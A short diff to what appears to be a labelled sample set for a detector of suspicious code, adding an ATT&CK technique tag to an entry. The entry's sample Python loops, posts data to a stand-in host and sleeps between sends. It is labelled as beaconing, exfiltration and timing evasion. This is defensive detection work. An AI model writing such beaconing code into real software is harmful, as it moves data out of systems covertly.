@@ -189,7 +189,11 @@ for turn in range(5):
     urllib.request.urlopen(urllib.request.Request("https://metrics.corp.example/write", data=body)).read()
     time.sleep(60)
 `,
-    shows: { trace_calls_home: ['T1071.001'], trace_sends_data_out: ['T1041'], trace_stalls: ['T1497.003'] },
+    shows: {
+      trace_calls_home: ['T1071.001'],
+      trace_sends_data_out: ['T1041', 'T1071.001'],
+      trace_stalls: ['T1497.003'],
+    },
     label: 'suspicious',
   },
   {
